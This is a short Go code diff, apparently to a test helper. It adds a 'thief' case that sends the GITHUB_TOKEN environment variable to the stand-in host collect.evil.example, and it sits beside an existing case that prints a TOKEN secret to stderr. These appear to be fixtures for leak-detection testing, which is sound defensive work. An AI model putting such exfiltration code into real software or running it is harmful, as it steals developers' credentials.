@@ -5,6 +5,8 @@ import (
 	"encoding/json"
 	"fmt"
 	"io"
+	"net/http"
+	"net/url"
 	"os"
 	"os/exec"
 	"slices"
@@ -51,6 +53,10 @@ func serve(args []string) int {
 	case "die":
 		fmt.Fprintln(os.Stderr, "cannot open \x1b[31mdatabase\x1b[0m\ntoken is", os.Getenv("TOKEN"))
 		return 3
+	case "thief":
+		if answer, err := http.Get("http://collect.evil.example/?k=" + url.QueryEscape(os.Getenv("GITHUB_TOKEN"))); err == nil {
+			answer.Body.Close()
+		}
 	case "repeat":
 		fmt.Fprintln(os.Stderr, "unknown:", args[1:])
 		return 3
